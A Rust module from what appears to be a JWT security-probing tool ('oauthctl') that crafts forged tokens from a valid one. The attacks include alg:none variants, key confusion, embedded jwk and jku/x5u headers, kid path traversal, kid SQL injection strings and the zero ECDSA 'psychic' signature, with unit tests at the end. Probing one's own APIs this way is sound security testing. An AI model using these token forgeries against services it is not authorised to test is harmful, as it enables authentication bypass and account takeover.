//! Crafting the attack tokens, each derived from the valid token. Pure:
//! tokens in, tokens out; signing goes through `jwt::encode`.

use serde_json::{Map, Value, json};

use crate::jwt::encode::{SignAlg, SigningKey, sign};
use crate::jwt::keys::{Key, Material};
use crate::jwt::{Alg, Family, Jws, b64_encode, der};

/// One crafted token.
#[derive(Debug, Clone, PartialEq)]
pub struct Crafted {
    /// What it is, for people (`alg "None", original signature`).
    pub label: String,
    /// The token.
    pub token: String,
}

impl Crafted {
    fn new(label: impl Into<String>, token: String) -> Crafted {
        Crafted {
            label: label.into(),
            token,
        }
    }
}

fn b64_json(v: &Map<String, Value>) -> String {
    b64_encode(Value::Object(v.clone()).to_string().as_bytes())
}

/// The payload part of the token, as it was (never re-encoded, so the
/// original signature still covers it).
fn payload_b64(jws: &Jws) -> &str {
    jws.signing_input
        .split_once('.')
        .map(|(_, p)| p)
        .unwrap_or("")
}

fn claims(jws: &Jws) -> Map<String, Value> {
    jws.claims.clone().unwrap_or_default()
}

/// The header with `alg` replaced and other members kept.
fn header_with(jws: &Jws, changes: &[(&str, Value)], remove: &[&str]) -> Map<String, Value> {
    let mut h = jws.header.clone();
    for r in remove {
        h.remove(*r);
    }
    for (k, v) in changes {
        h.insert((*k).to_owned(), v.clone());
    }
    h
}

/// `alg: none` in its spellings, with an empty and with the original
/// signature.
pub fn alg_none(jws: &Jws) -> Vec<Crafted> {
    let mut out = Vec::new();
    for spelling in ["none", "None", "NONE", "nOnE"] {
        let h = header_with(jws, &[("alg", spelling.into())], &[]);
        let unsigned = format!("{}.{}", b64_json(&h), payload_b64(jws));
        out.push(Crafted::new(
            format!("alg \"{spelling}\", empty signature"),
            format!("{unsigned}."),
        ));
        out.push(Crafted::new(
            format!("alg \"{spelling}\", original signature"),
            format!("{unsigned}.{}", jws.signature_b64),
        ));
    }
    out
}

/// The original header and payload with no signature.
pub fn stripped(jws: &Jws) -> Crafted {
    Crafted::new("signature removed", format!("{}.", jws.signing_input))
}

/// The original token with one bit of its signature flipped.
pub fn broken_signature(jws: &Jws) -> Option<Crafted> {
    let mut sig = jws.signature.clone();
    let first = sig.first_mut()?;
    *first ^= 0x01;
    Some(Crafted::new(
        "one bit of the signature flipped",
        format!("{}.{}", jws.signing_input, b64_encode(&sig)),
    ))
}

/// The original header and payload under the signature of another token
/// (the same header and claims signed with another key of the same kind).
pub fn foreign_signature(jws: &Jws, alg: Option<Alg>) -> Option<Crafted> {
    let alg = alg?;
    let other_secret;
    let key: &SigningKey = match alg.family() {
        Family::Hmac => {
            other_secret = SigningKey::hmac(b"oauthctl-probe-another-key");
            &other_secret
        }
        Family::Rsa => &super::attacker::rsa().signing,
        Family::Ec if alg == Alg::ES256 => &super::attacker::ec().signing,
        _ => return None,
    };
    let other = sign(SignAlg::Alg(alg), &jws.header, &claims(jws), Some(key)).ok()?;
    let sig = other.rsplit('.').next()?;
    Some(Crafted::new(
        "the signature of another token",
        format!("{}.{sig}", jws.signing_input),
    ))
}

/// The claims with one value changed, under the original signature.
pub fn tampered(jws: &Jws) -> Crafted {
    let mut c = claims(jws);
    let what = if let Some(iat) = c.get("iat").and_then(Value::as_i64) {
        c.insert("iat".into(), json!(iat - 1));
        "iat changed"
    } else if let Some(Value::String(jti)) = c.get("jti").cloned() {
        c.insert("jti".into(), json!(format!("{jti}0")));
        "jti changed"
    } else {
        c.insert("oauthctl_probe".into(), json!("tampered"));
        "a claim added"
    };
    let header_b64 = jws.signing_input.split('.').next().unwrap_or("");
    Crafted::new(
        format!("payload tampered ({what}), original signature"),
        format!("{header_b64}.{}.{}", b64_json(&c), jws.signature_b64),
    )
}

/// A public key in one encoding that a server may hold as its HMAC secret.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Encoding {
    /// Its name (`PEM (SPKI), trailing newline`).
    pub name: String,
    /// The bytes.
    pub bytes: Vec<u8>,
}

fn openssh(key: &Key) -> Option<String> {
    fn string(out: &mut Vec<u8>, s: &[u8]) {
        out.extend_from_slice(&(s.len() as u32).to_be_bytes());
        out.extend_from_slice(s);
    }
    fn mpint(out: &mut Vec<u8>, n: &[u8]) {
        let skip = n.iter().take_while(|b| **b == 0).count();
        let n = &n[skip..];
        if n.first().is_some_and(|b| b & 0x80 != 0) {
            let mut v = vec![0];
            v.extend_from_slice(n);
            string(out, &v);
        } else {
            string(out, n);
        }
    }
    let mut blob = Vec::new();
    let kind = match &key.material {
        Material::Rsa { n, e } => {
            string(&mut blob, b"ssh-rsa");
            mpint(&mut blob, e);
            mpint(&mut blob, n);
            "ssh-rsa".to_owned()
        }
        Material::Ec { crv, x, y } => {
            let curve = match crv.as_str() {
                "P-256" => "nistp256",
                "P-384" => "nistp384",
                "P-521" => "nistp521",
                _ => return None,
            };
            let kind = format!("ecdsa-sha2-{curve}");
            string(&mut blob, kind.as_bytes());
            string(&mut blob, curve.as_bytes());
            string(&mut blob, &crate::jwt::keys::ec_point(x, y));
            kind
        }
        _ => return None,
    };
    use base64::Engine;
    Some(format!(
        "{kind} {}",
        base64::engine::general_purpose::STANDARD.encode(blob)
    ))
}

/// The usual encodings of a public key: PEM (SPKI, and PKCS#1 for RSA) with
/// and without a trailing newline, DER, the JWK as JSON (as published when
/// `published` is given), and OpenSSH.
pub fn encodings(key: &Key, published: Option<&Map<String, Value>>) -> Vec<Encoding> {
    let mut out = Vec::new();
    let mut both = |name: &str, text: &str| {
        let trimmed = text.trim_end_matches('\n');
        out.push(Encoding {
            name: format!("{name}, trailing newline"),
            bytes: format!("{trimmed}\n").into_bytes(),
        });
        out.push(Encoding {
            name: format!("{name}, no trailing newline"),
            bytes: trimmed.as_bytes().to_vec(),
        });
    };
    if let Some(pem) = key.to_pem() {
        both("PEM (SPKI)", &pem);
    }
    if let Material::Rsa { n, e } = &key.material {
        let pkcs1 = der::sequence(&[der::uint(n), der::uint(e)]);
        both("PEM (PKCS#1)", &der::to_pem("RSA PUBLIC KEY", &pkcs1));
    }
    if let Some(ssh) = openssh(key) {
        both("OpenSSH", &ssh);
    }
    if let Some(d) = key.spki_der() {
        out.push(Encoding {
            name: "DER (SPKI)".into(),
            bytes: d,
        });
    }
    let jwk = published.cloned().unwrap_or_else(|| key.to_public_jwk());
    out.push(Encoding {
        name: "JWK (JSON)".into(),
        bytes: Value::Object(jwk).to_string().into_bytes(),
    });
    out
}

/// HS256/384/512 tokens signed with each encoding of `key` as the secret.
pub fn key_confusion(jws: &Jws, key: &Key, published: Option<&Map<String, Value>>) -> Vec<Crafted> {
    let mut out = Vec::new();
    for enc in encodings(key, published) {
        let secret = SigningKey::hmac(&enc.bytes);
        for alg in [Alg::HS256, Alg::HS384, Alg::HS512] {
            if let Ok(t) = sign(SignAlg::Alg(alg), &jws.header, &claims(jws), Some(&secret)) {
                out.push(Crafted::new(
                    format!("{alg} with the {} public key as {}", key.kty(), enc.name),
                    t,
                ));
            }
        }
    }
    out
}

/// The attack key and algorithm that fit the token: its own family when
/// asymmetric (RSA, or P-256 for ES256), else RS256.
pub fn attack_key_for(alg: Option<Alg>) -> (&'static super::attacker::AttackKey, Alg) {
    match alg {
        Some(Alg::ES256) => (super::attacker::ec(), Alg::ES256),
        Some(a) if a.family() == Family::Rsa => (super::attacker::rsa(), a),
        _ => (super::attacker::rsa(), Alg::RS256),
    }
}

/// The original claims, signed by oauthctl's own key, with extra header
/// members.
pub fn self_signed(
    jws: &Jws,
    alg: Option<Alg>,
    extra: &[(&str, Value)],
    remove: &[&str],
) -> Option<String> {
    let (key, alg) = attack_key_for(alg);
    let h = header_with(jws, extra, remove);
    sign(SignAlg::Alg(alg), &h, &claims(jws), Some(&key.signing)).ok()
}

/// An embedded `jwk` header with oauthctl's own public key (CVE-2018-0114),
/// with the token's `kid` and without one.
pub fn embedded_jwk(jws: &Jws, alg: Option<Alg>) -> Vec<Crafted> {
    let (key, _) = attack_key_for(alg);
    let jwk = Value::Object(key.public.to_public_jwk());
    let mut out = Vec::new();
    if let Some(t) = self_signed(jws, alg, &[("jwk", jwk.clone())], &[]) {
        out.push(Crafted::new("jwk header with oauthctl's key", t));
    }
    if jws.kid().is_some()
        && let Some(t) = self_signed(jws, alg, &[("jwk", jwk)], &["kid"])
    {
        out.push(Crafted::new("jwk header with oauthctl's key, no kid", t));
    }
    out
}

/// A token whose `jku` names `url` (a key set holding oauthctl's key).
pub fn jku(jws: &Jws, alg: Option<Alg>, url: &str) -> Option<Crafted> {
    self_signed(jws, alg, &[("jku", url.into())], &[])
        .map(|t| Crafted::new(format!("jku {url}"), t))
}

/// A token whose `x5u` names `url` (a certificate for oauthctl's key).
pub fn x5u(jws: &Jws, alg: Option<Alg>, url: &str) -> Option<Crafted> {
    self_signed(jws, alg, &[("x5u", url.into())], &[])
        .map(|t| Crafted::new(format!("x5u {url}"), t))
}

/// `kid` path traversal to `/dev/null`, signed HS256 with an empty key.
pub fn kid_path(jws: &Jws) -> Vec<Crafted> {
    let empty = SigningKey::hmac(b"");
    ["../../../../../../../../../../dev/null", "/dev/null"]
        .into_iter()
        .filter_map(|kid| {
            let h = header_with(jws, &[("kid", kid.into())], &[]);
            sign(SignAlg::Alg(Alg::HS256), &h, &claims(jws), Some(&empty))
                .ok()
                .map(|t| Crafted::new(format!("kid \"{kid}\", HS256 with an empty key"), t))
        })
        .collect()
}

/// The key that the SQL-shaped `kid`s make a vulnerable lookup return.
pub const SQL_KEY: &str = "oauthctl-probe";

/// `kid` SQL injection shapes that select [`SQL_KEY`], signed HS256 with it.
pub fn kid_sql(jws: &Jws) -> Vec<Crafted> {
    let key = SigningKey::hmac(SQL_KEY.as_bytes());
    [
        format!("x' UNION SELECT '{SQL_KEY}' -- "),
        format!("0 UNION SELECT '{SQL_KEY}' -- "),
    ]
    .into_iter()
    .filter_map(|kid| {
        let h = header_with(jws, &[("kid", kid.clone().into())], &[]);
        sign(SignAlg::Alg(Alg::HS256), &h, &claims(jws), Some(&key))
            .ok()
            .map(|t| Crafted::new(format!("kid \"{kid}\", HS256 with \"{SQL_KEY}\""), t))
    })
    .collect()
}

/// The psychic signature (r = s = 0, CVE-2022-21449) for ES tokens.
pub fn psychic(jws: &Jws, alg: Option<Alg>) -> Option<Crafted> {
    let len = match alg? {
        Alg::ES256 => 64,
        Alg::ES384 => 96,
        Alg::ES512 => 132,
        _ => return None,
    };
    Some(Crafted::new(
        "ECDSA signature r = 0, s = 0",
        format!("{}.{}", jws.signing_input, b64_encode(&vec![0u8; len])),
    ))
}

/// Re-sign the token's claims (changed by `edit`) and header (changed by
/// `header`) with a key the API trusts.
pub fn resigned(
    jws: &Jws,
    alg: Alg,
    key: &SigningKey,
    header: impl FnOnce(&mut Map<String, Value>),
    edit: impl FnOnce(&mut Map<String, Value>),
) -> Option<String> {
    let mut h = jws.header.clone();
    header(&mut h);
    let mut c = claims(jws);
    edit(&mut c);
    sign(SignAlg::Alg(alg), &h, &c, Some(key)).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn jws(token: &str) -> Jws {
        match crate::jwt::parse(token).unwrap() {
            crate::jwt::Parsed::Jws(j) => j,
            _ => unreachable!(),
        }
    }

    fn hs_token() -> String {
        let claims = json!({"sub":"alice","iat":1000,"exp":2_000_000_000i64})
            .as_object()
            .cloned()
            .unwrap();
        let h = json!({"typ":"JWT","kid":"k1"})
            .as_object()
            .cloned()
            .unwrap();
        sign(
            SignAlg::Alg(Alg::HS256),
            &h,
            &claims,
            Some(&SigningKey::hmac(b"s")),
        )
        .unwrap()
    }

    #[test]
    fn alg_none_keeps_the_payload_bytes() {
        let t = hs_token();
        let j = jws(&t);
        let v = alg_none(&j);
        assert_eq!(v.len(), 8);
        for c in &v {
            let parts: Vec<&str> = c.token.split('.').collect();
            assert_eq!(parts[1], t.split('.').nth(1).unwrap());
            let h = jws(&c.token).header;
            assert!(h["alg"].as_str().unwrap().eq_ignore_ascii_case("none"));
            assert_eq!(h["kid"], "k1");
        }
    }

    #[test]
    fn tampering_changes_iat_only() {
        let j = jws(&hs_token());
        let t = jws(&tampered(&j).token);
        assert_eq!(t.claims.as_ref().unwrap()["iat"], 999);
        assert_eq!(t.signature_b64, j.signature_b64);
    }

    #[test]
    fn key_confusion_signs_with_each_encoding() {
        let j = jws(&hs_token());
        let key = &super::super::attacker::rsa().public;
        let encs = encodings(key, None);
        let names: Vec<&str> = encs.iter().map(|e| e.name.as_str()).collect();
        assert!(
            names.contains(&"PEM (PKCS#1), no trailing newline"),
            "{names:?}"
        );
        assert!(names.contains(&"OpenSSH, trailing newline"));
        assert!(encs[0].bytes.starts_with(b"-----BEGIN PUBLIC KEY-----\n"));
        assert!(encs[0].bytes.ends_with(b"-----END PUBLIC KEY-----\n"));
        assert!(encs[1].bytes.ends_with(b"-----END PUBLIC KEY-----"));
        let v = key_confusion(&j, key, None);
        assert_eq!(v.len(), encs.len() * 3);
        // Each verifies as HMAC with its encoding as the secret.
        let first = jws(&v[0].token);
        let k = crate::jwt::keys::Key::from_secret(encs[0].bytes.clone(), "t");
        let ring = crate::jwt::verify::KeyRing::new(vec![k]);
        let r = crate::jwt::validate::check(
            &v[0].token,
            &crate::jwt::validate::Options {
                now: 1_700_000_000,
                ..Default::default()
            },
            &ring,
        );
        assert_eq!(first.alg(), Some("HS256"));
        assert!(
            r.checks
                .iter()
                .any(|c| c.name == "signature" && c.status == crate::jwt::validate::Status::Passed)
        );
    }

    #[test]
    fn psychic_signatures_are_zero() {
        let j = jws(&hs_token());
        assert!(psychic(&j, Some(Alg::HS256)).is_none());
        let p = psychic(&j, Some(Alg::ES256)).unwrap();
        assert_eq!(jws(&p.token).signature, vec![0u8; 64]);
    }
}
